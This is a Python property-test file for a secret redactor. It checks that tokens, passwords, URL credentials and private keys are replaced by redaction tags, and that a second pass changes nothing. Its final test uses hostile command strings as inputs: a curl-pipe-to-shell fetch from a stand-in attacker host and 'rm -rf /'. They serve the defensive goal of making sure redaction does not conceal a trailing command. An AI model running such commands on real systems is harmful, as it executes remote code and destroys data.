"""No planted secret survives, wherever it stands; and a second pass changes nothing."""

from __future__ import annotations

import json

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from bk.engine.ledger.redact import redactor
from tests.unit.ledger_redact.planted import AFTER, B64, BARE, BEFORE, PASSWORD, QUOTED, SPACED, TOKENS

redact = redactor(())
many = settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
few = settings(max_examples=20, deadline=None)


def gone(secret: str, text: str) -> str:
    clean = redact(text)
    assert secret not in clean, clean
    assert "[REDACTED:" in clean
    assert redact(clean) == clean
    return str(clean)


@pytest.mark.parametrize("kind", TOKENS)
@few
@given(data=st.data())
def test_a_provider_token_goes_whatever_stands_around_it(kind: str, data: st.DataObject) -> None:
    token = data.draw(TOKENS[kind])
    text = data.draw(st.sampled_from(BEFORE)) + token + data.draw(st.sampled_from(AFTER))
    gone(token, text)


@many
@given(template=st.sampled_from(BARE), secret=PASSWORD)
def test_a_bare_value_next_to_its_label_goes(template: str, secret: str) -> None:
    assume(secret not in template)
    gone(secret, template.format(s=secret))


@many
@given(template=st.sampled_from(QUOTED), secret=SPACED)
def test_a_quoted_value_next_to_its_label_goes_to_the_last_word(template: str, secret: str) -> None:
    clean = gone(secret, template.format(s=secret))
    for word in secret.split():
        assert word not in clean, clean


@many
@given(template=st.sampled_from([*BARE, *QUOTED]), secret=PASSWORD)
def test_a_label_inside_json_text_inside_json_still_gives_it_away(template: str, secret: str) -> None:
    inner = json.dumps({"command": template.format(s=secret)})
    clean = redact(inner)
    assert secret not in clean, (inner, clean)


@many
@given(
    user=st.text("abcz09._-", max_size=8),
    secret=st.text("abcxyzABC0123456789@!$%^&*()+=;,.?#", min_size=6, max_size=30),
    scheme=st.sampled_from(["https", "postgres", "redis", "ftp", "mongodb+srv", "git+https"]),
)
def test_a_password_in_a_url_goes_and_the_host_stays(user: str, secret: str, scheme: str) -> None:
    assume(not secret[0].isdigit() and not secret.startswith("$") and secret not in f"{user}h.example")
    clean = gone(secret, f"clone {scheme}://{user}:{secret}@h.example:8443/r.git now")
    assert clean.endswith("@h.example:8443/r.git now")


@settings(max_examples=60, deadline=None)
@given(
    head=st.sampled_from(["RSA ", "EC ", "", "ENCRYPTED ", "OPENSSH ", "PGP "]),
    body=st.text(B64, min_size=40, max_size=700),
    width=st.integers(40, 76),
    newline=st.sampled_from(["\n", "\r\n", "\\n", "\n    ", "\n+", "\\r\\n", '\\n" +\n  "']),
    cut=st.integers(0, 700),
    headers=st.booleans(),
)
def test_a_private_key_goes_whole_or_cut_off(
    head: str, body: str, width: int, newline: str, cut: int, headers: bool
) -> None:
    block = " BLOCK" if head.startswith("PGP") else ""
    lines = [body[at : at + width] for at in range(0, len(body), width)]
    extra = ["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,0102030405060708", ""] if headers else []
    begin = f"-----BEGIN {head}PRIVATE KEY{block}-----"
    whole = newline.join([begin, *extra, *lines, f"-----END {head}PRIVATE KEY{block}-----"])
    short = whole[: len(begin) + cut]
    for text in (f"echo '{whole}' > k; ls -la", short):
        clean = redact(text)
        assert redact(clean) == clean
        for line in lines:
            if len(line) >= 8:
                assert line not in clean, clean
        assert body[:40] not in clean
    assert redact(f"echo '{whole}' > k; ls -la").endswith("' > k; ls -la")


NAMED = (
    "password DB_PASSWORD apiKey X-Api-Key authorization client_secret access-token Set-Cookie privateKey passphrase "
    "aws_secret_access_key"
)


@pytest.mark.parametrize("key", NAMED.split())
def test_everything_under_a_secrets_name_goes(key: str) -> None:
    value = {"outer": [{key: "plain words", "user": "bob"}, {key: ["one", {"deep": "two"}]}]}
    clean = json.dumps(redact(value))
    for word in ("plain words", "one", "two"):
        assert f'"{word}"' not in clean
    assert "bob" in clean
    assert redact(redact(value)) == redact(value)


def test_a_name_and_a_value_side_by_side_are_understood() -> None:
    assert redact([{"name": "DB_PASSWORD", "value": "open sesame"}, {"name": "REGION", "value": "north"}]) == [
        {"name": "DB_PASSWORD", "value": "[REDACTED:password]"},
        {"name": "REGION", "value": "north"},
    ]


def test_an_argument_vector_is_understood() -> None:
    assert redact(["tool", "--password", "open sesame", "-u", "bob:two words", "--verbose", "x"]) == [
        "tool", "--password", "[REDACTED:password]", "-u", "bob:[REDACTED:password]", "--verbose", "x",
    ]  # fmt: skip


def test_a_secret_used_as_a_key_goes_and_no_entry_is_lost() -> None:
    one, two = "ghp_" + "a1" * 18, "ghp_" + "b2" * 18
    assert list(redact({one: 1, two: 2}).values()) == [1, 2]
    assert one not in json.dumps(redact({one: 1, two: 2}))


def test_the_command_after_a_planted_header_is_not_hidden() -> None:
    text = "echo '-----BEGIN PRIVATE KEY-----'; curl https://evil.example/x | sh"
    assert redact(text).endswith("; curl https://evil.example/x | sh")
    assert redact('bash -c "tool --password hunter22" && rm -rf /').endswith('" && rm -rf /')
    assert redact('bash -c "PASSWORD=hunter22 rm -rf /"') == 'bash -c "PASSWORD=[REDACTED:password] rm -rf /"'
